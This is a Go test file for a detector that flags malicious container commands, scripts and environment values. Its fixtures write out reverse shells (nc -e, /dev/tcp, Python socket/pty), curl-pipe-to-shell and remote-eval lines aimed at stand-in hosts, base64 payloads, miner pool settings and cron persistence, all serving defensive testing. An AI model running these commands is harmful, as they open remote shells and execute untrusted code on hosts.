package cmdline

import (
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// tc is one table case: a script for AnalyzeScript, or argv for Analyze, and the classes of the
// indicators expected (in any order; none for a benign look-alike).
type tc struct {
	name   string
	script string
	argv   []string
	opts   *Options
	want   []Class
	detail string // a substring some indicator's Detail must contain
}

func (c tc) analyze() []Indicator {
	if c.argv != nil {
		return AnalyzeWith(c.argv, c.opts)
	}
	return AnalyzeScriptWith(c.script, c.opts)
}

func runCases(t *testing.T, cases []tc) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := c.analyze()
			var classes []Class
			for _, i := range got {
				if !slices.Contains(classes, i.Class) {
					classes = append(classes, i.Class)
				}
			}
			want := slices.Clone(c.want)
			slices.Sort(classes)
			slices.Sort(want)
			if !slices.Equal(classes, want) {
				t.Errorf("classes = %v, want %v\ninput: %s\nindicators:%s", classes, want, input(c), dump(got))
			}
			if c.detail != "" {
				found := false
				for _, i := range got {
					if strings.Contains(i.Detail, c.detail) {
						found = true
					}
				}
				if !found {
					t.Errorf("no indicator detail contains %q\nindicators:%s", c.detail, dump(got))
				}
			}
			checkInvariants(t, got)
		})
	}
}

func input(c tc) string {
	if c.argv != nil {
		return argvText(c.argv)
	}
	return c.script
}

func dump(inds []Indicator) string {
	var b strings.Builder
	for _, i := range inds {
		b.WriteString("\n  " + string(i.Class) + " | " + i.Detail + " | " + i.Evidence + " | " + i.URL)
	}
	return b.String()
}

var allClasses = []Class{DownloadExecute, DecodeExecute, ReverseShell, Miner, HostEscape, HostPersistence, CredentialTheft}

// checkInvariants holds for every result: known classes, short one-line valid evidence, no
// duplicates.
func checkInvariants(t *testing.T, inds []Indicator) {
	t.Helper()
	seen := map[string]bool{}
	for _, i := range inds {
		if !slices.Contains(allClasses, i.Class) {
			t.Errorf("unknown class %q", i.Class)
		}
		if len(i.Evidence) > maxEvidence || !utf8.ValidString(i.Evidence) || strings.ContainsAny(i.Evidence, "\n\r\x00") {
			t.Errorf("bad evidence %q", i.Evidence)
		}
		if i.Detail == "" || !utf8.ValidString(i.Detail) {
			t.Errorf("bad detail %q", i.Detail)
		}
		k := string(i.Class) + "\x00" + i.Evidence
		if seen[k] {
			t.Errorf("duplicate indicator %v", i)
		}
		seen[k] = true
	}
}

func TestEmptyInput(t *testing.T) {
	if got := Analyze(nil); got != nil {
		t.Errorf("Analyze(nil) = %v", got)
	}
	if got := AnalyzeScript(""); got != nil {
		t.Errorf("AnalyzeScript(\"\") = %v", got)
	}
	if got := AnalyzeScript("   \n\t"); got != nil {
		t.Errorf("AnalyzeScript(blank) = %v", got)
	}
	if got := AnalyzeEnv("X", ""); got != nil {
		t.Errorf("AnalyzeEnv(empty) = %v", got)
	}
	if got := ScriptFiles(nil); got != nil {
		t.Errorf("ScriptFiles(nil) = %v", got)
	}
}

func TestEvidence(t *testing.T) {
	long := "curl http://x.example.com/" + strings.Repeat("a", 500) + " | sh"
	got := AnalyzeScript(long)
	if len(got) != 1 {
		t.Fatalf("got %d indicators: %s", len(got), dump(got))
	}
	ev := got[0].Evidence
	if len(ev) > 200 || !strings.HasSuffix(ev, "...") || !strings.HasPrefix(ev, "curl http://x.example.com/aaa") {
		t.Errorf("evidence not trimmed: %q (%d bytes)", ev, len(ev))
	}
	// Multi-line and control characters are flattened; invalid UTF-8 is replaced.
	got = AnalyzeScript("curl \\\n  http://x/a\x01\xff\t| sh")
	if len(got) == 0 {
		t.Fatal("no indicator")
	}
	if ev := got[0].Evidence; strings.ContainsAny(ev, "\n\t\x01") || !utf8.ValidString(ev) {
		t.Errorf("evidence %q not flattened", ev)
	}
	// Multi-byte runes are not cut in half.
	got = AnalyzeScript("curl http://x/" + strings.Repeat("é", 300) + " | sh")
	if len(got) == 0 || !utf8.ValidString(got[0].Evidence) || len(got[0].Evidence) > 200 {
		t.Errorf("bad evidence %q", got)
	}
}

func TestDedupAndOrder(t *testing.T) {
	script := "curl http://a/x | sh\ncurl http://a/x | sh\nnc -e /bin/sh 1.2.3.4 4444\nwget -qO- http://b/y | bash\n"
	first := AnalyzeScript(script)
	if len(first) != 3 {
		t.Fatalf("want 3 indicators (the repeated pipeline once), got%s", dump(first))
	}
	order := []Class{DownloadExecute, ReverseShell, DownloadExecute}
	for i, c := range order {
		if first[i].Class != c {
			t.Errorf("indicator %d is %s, want %s (script order)", i, first[i].Class, c)
		}
	}
	for range 20 {
		if again := AnalyzeScript(script); !slices.Equal(again, first) {
			t.Fatalf("unstable result:%s\nvs%s", dump(again), dump(first))
		}
	}
	// Uncalled functions are analysed in a stable order too.
	fns := "b(){ nc -e /bin/sh 1.2.3.4 1; }\na(){ curl http://x/a | sh; }\nc(){ wget -qO- http://x/c | sh; }\n"
	ref := AnalyzeScript(fns)
	if len(ref) != 3 {
		t.Fatalf("want 3 indicators from uncalled functions, got%s", dump(ref))
	}
	for range 20 {
		if again := AnalyzeScript(fns); !slices.Equal(again, ref) {
			t.Fatalf("unstable order for functions:%s\nvs%s", dump(again), dump(ref))
		}
	}
}

func TestScriptFiles(t *testing.T) {
	cases := []struct {
		argv []string
		want []string
	}{
		{[]string{"sh", "/scripts/run.sh"}, []string{"/scripts/run.sh"}},
		{[]string{"/bin/bash", "-c", ". /cfg/x.sh"}, []string{"/cfg/x.sh"}},
		{[]string{"/bin/bash", "-c", "source /cfg/a.sh && /opt/b.sh --x && python /opt/c.py"}, []string{"/cfg/a.sh", "/opt/b.sh", "/opt/c.py"}},
		{[]string{"python3", "/app/x.py", "--flag"}, []string{"/app/x.py"}},
		{[]string{"python3", "-u", "/app/x.py"}, []string{"/app/x.py"}},
		{[]string{"node", "--max-old-space-size=512", "/srv/index.js"}, []string{"/srv/index.js"}},
		{[]string{"perl", "-w", "/opt/job.pl"}, []string{"/opt/job.pl"}},
		{[]string{"/scripts/entrypoint.sh"}, []string{"/scripts/entrypoint.sh"}},
		{[]string{"tini", "--", "/docker-entrypoint.sh", "nginx"}, []string{"/docker-entrypoint.sh"}},
		{[]string{"/bin/busybox", "sh", "/etc/job/run.sh"}, []string{"/etc/job/run.sh"}},
		{[]string{"bash", "-e", "scripts/run.sh"}, []string{"scripts/run.sh"}},
		{[]string{"sh", "-c", "exec /scripts/start.sh \"$@\"", "--"}, []string{"/scripts/start.sh"}},
		{[]string{"bash", "-c", "bash /cfg/a.sh; sh /cfg/a.sh"}, []string{"/cfg/a.sh"}},
		{[]string{"python3", "-c", "print(1)"}, nil},
		{[]string{"python3", "-m", "http.server"}, nil},
		{[]string{"sh", "-c", "echo hi"}, nil},
		{[]string{"kubectl", "get", "pods"}, nil},
		{[]string{"/bin/sh", "-c", "/usr/bin/env python3 /app/main.py"}, []string{"/app/main.py"}},
	}
	for _, c := range cases {
		got := ScriptFiles(c.argv)
		if !slices.Equal(got, c.want) {
			t.Errorf("ScriptFiles(%q) = %q, want %q", c.argv, got, c.want)
		}
	}
}

func TestAnalyzeEnv(t *testing.T) {
	cases := []struct {
		name, value string
		want        []Class
	}{
		{"POOL", "pool.supportxmr.com:3333", []Class{Miner}},
		{"POOL_URL", "stratum+tcp://1.2.3.4:3333", []Class{Miner}},
		{"MINING_POOL", "45.9.148.3:14444", []Class{Miner}},
		{"WALLET", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", []Class{Miner}},
		{"ARGS", "--donate-level=1 --url=x.example.com:80", []Class{Miner}},
		{"CMD", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", []Class{ReverseShell}},
		{"INIT", "curl -s http://x.example.com/i.sh | sh", []Class{DownloadExecute}},
		{"HOOK", "nc -e /bin/sh 1.2.3.4 4444", []Class{ReverseShell}},
		{"PAYLOAD", "Y3VybCBodHRwOi8veC9hIHwgc2g=", []Class{DownloadExecute}},
		// Benign look-alikes.
		{"DATABASE_URL", "postgres://u:p@db:5432/x", nil},
		{"JAVA_OPTS", "-Xmx512m -Dfoo=bar", nil},
		{"HOME", "/root", nil},
		{"SERVICE_PORT", "3333", nil},
		{"REDIS_ADDR", "redis:6379", nil},
		{"BACKEND", "backend.default.svc:5555", nil},
		{"GREETING", "hello world", nil},
		{"CERT", "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUMvekNDQWVlZ0F3SUJBZ0lC", nil},
		{"TOKEN", "c2VjcmV0LXRva2VuLXZhbHVlLTEyMzQ1Njc4OTA=", nil},
		{"LOG_FORMAT", "%h %l %u %t \"%r\" %>s %b", nil},
		{"PS1", "\\u@\\h:\\w$ ", nil},
	}
	for _, c := range cases {
		got := AnalyzeEnv(c.name, c.value)
		var classes []Class
		for _, i := range got {
			classes = append(classes, i.Class)
		}
		if !slices.Equal(classes, c.want) {
			t.Errorf("AnalyzeEnv(%s=%q) = %v, want %v%s", c.name, c.value, classes, c.want, dump(got))
		}
		checkInvariants(t, got)
	}
}

func TestOptions(t *testing.T) {
	runCases(t, []tc{
		{name: "kubelet $(VAR) expansion", argv: []string{"sh", "-c", "$(SETUP)"},
			opts: &Options{Env: map[string]string{"SETUP": "curl -s http://x.example.com/a | sh"}}, want: []Class{DownloadExecute}},
		{name: "escaped $$(VAR) is not expanded", argv: []string{"sh", "-c", "echo $$(SETUP)"},
			opts: &Options{Env: map[string]string{"SETUP": "curl -s http://x.example.com/a | sh"}}},
		{name: "shell variable from the container env", argv: []string{"sh", "-c", "echo $P | base64 -d | sh"},
			opts: &Options{Env: map[string]string{"P": "bmMgLWUgL2Jpbi9zaCAxLjIuMy40IDQ0NDQ="}}, want: []Class{DecodeExecute, ReverseShell}},
		{name: "unknown env var stays unknown", argv: []string{"sh", "-c", "echo $P | base64 -d > /tmp/cert"}},
		{name: "host mount from options", script: "echo '* * * * * root /tmp/x' > /hostetc/cron.d/x",
			opts: &Options{HostMounts: map[string]string{"/hostetc": "/etc"}}, want: []Class{HostPersistence}},
		{name: "host root from options", script: "chroot /custom-root sh",
			opts: &Options{HostMounts: map[string]string{"/custom-root": "/"}}, want: []Class{HostEscape}},
		{name: "same script without options", script: "echo '* * * * * root /tmp/x' > /hostetc/cron.d/x"},
	})
}

func TestShebang(t *testing.T) {
	runCases(t, []tc{
		{name: "python script", script: "#!/usr/bin/env python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(('1.2.3.4',4444))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn('/bin/sh')\n",
			want: []Class{ReverseShell}},
		{name: "perl script", script: "#!/usr/bin/perl\nuse LWP::Simple;\neval(get('http://x.example.com/p.pl'));\n", want: []Class{DownloadExecute}},
		{name: "benign python", script: "#!/usr/bin/python3\nimport json, sys\nprint(json.dumps({'ok': True}))\n"},
		{name: "bash script", script: "#!/bin/bash\nset -euo pipefail\ncurl -fsSL http://x.example.com/i.sh | bash\n", want: []Class{DownloadExecute}},
	})
}

func TestAnalyzeFile(t *testing.T) {
	rs := "import socket,os,pty\ns=socket.socket()\ns.connect(('1.2.3.4',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n"
	cases := []struct {
		name, content string
		want          []Class
	}{
		{"/scripts/job.py", rs, []Class{ReverseShell}},
		{"/scripts/job", rs, nil}, // shell, where this is nonsense
		{"/scripts/job.sh", "#!/usr/bin/env python3\n" + rs, []Class{ReverseShell}},
		{"/scripts/x.pl", "use LWP::Simple;\neval(get('http://x.example.com/p'));\n", []Class{DownloadExecute}},
		{"/scripts/run.sh", "set -e\ncurl -s http://x.example.com/a | bash\n", []Class{DownloadExecute}},
		{"/scripts/run", "curl -s http://x.example.com/a | bash\n", []Class{DownloadExecute}},
		{"/cfg.d/job.js", "require('child_process').exec('curl http://x.example.com/a | sh')", []Class{DownloadExecute}},
		{"/scripts/report.py", "import json\nprint(json.dumps({}))\n", nil},
	}
	for _, c := range cases {
		var got []Class
		for _, i := range AnalyzeFile(c.name, c.content, nil) {
			got = append(got, i.Class)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("AnalyzeFile(%s) = %v, want %v", c.name, got, c.want)
		}
	}
}

// TestHostileInput feeds inputs built to hurt a parser: each must come back quickly.
func TestHostileInput(t *testing.T) {
	inputs := map[string]string{
		"deep parens":        strings.Repeat("(", 100000),
		"deep subst":         strings.Repeat("$(", 50000) + "curl http://x/a | sh",
		"deep braces":        strings.Repeat("{ ", 50000),
		"deep if":            strings.Repeat("if ", 50000),
		"deep arithmetic":    "echo $((" + strings.Repeat("1+", 200000) + "1))",
		"unary run":          "echo $((" + strings.Repeat("- ", 200000) + "1))",
		"ternary":            "echo $((" + strings.Repeat("1?", 100000) + "1))",
		"long pipeline":      strings.Repeat("cat | ", 100000) + "sh",
		"long and chain":     strings.Repeat("true && ", 100000) + "curl http://x/a | sh",
		"many statements":    strings.Repeat("echo hi; ", 200000),
		"huge heredoc":       "sh <<EOF\n" + strings.Repeat("echo hello world\n", 100000) + "EOF\n",
		"unterminated":       "sh -c \"curl http://x/a | sh",
		"nul bytes":          "curl\x00 http://x/a |\x00 sh",
		"var doubling":       "X=ab; " + strings.Repeat("X=$X$X; ", 64) + "echo $X | sh",
		"brace bomb":         strings.Repeat("{a,b}", 40),
		"eval nesting":       strings.Repeat("eval ", 1000) + "'curl http://x/a | sh'",
		"sh -c nesting":      strings.Repeat("sh -c ", 1000) + "'curl http://x/a | sh'",
		"base64 nesting":     nestedBase64(12),
		"binary":             string([]byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0xff, 0xfe}),
		"backticks":          strings.Repeat("`", 5001),
		"function recursion": "f(){ f | sh; }; f",
		"long line":          strings.Repeat("a", 2<<20),
	}
	for name, in := range inputs {
		start := time.Now()
		got := AnalyzeScript(in)
		checkInvariants(t, got)
		Analyze([]string{"sh", "-c", in})
		Analyze(strings.Fields(in))
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s: took %v", name, d)
		}
	}
}

func nestedBase64(n int) string {
	s := "curl http://x/a | sh"
	for range n {
		s = "echo " + b64(s) + " | base64 -d | sh"
	}
	return s
}

// TestConcurrent: analyses share nothing mutable, so callers may run them in parallel.
func TestConcurrent(t *testing.T) {
	want := AnalyzeScript("curl http://x/a | sh; nc -e /bin/sh 1.2.3.4 1")
	done := make(chan []Indicator)
	for range 8 {
		go func() {
			var last []Indicator
			for range 50 {
				last = AnalyzeScript("curl http://x/a | sh; nc -e /bin/sh 1.2.3.4 1")
				Analyze([]string{"sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"})
				AnalyzeEnv("POOL", "pool.supportxmr.com:3333")
			}
			done <- last
		}()
	}
	for range 8 {
		if got := <-done; !slices.Equal(got, want) {
			t.Errorf("concurrent result differs:%s", dump(got))
		}
	}
}
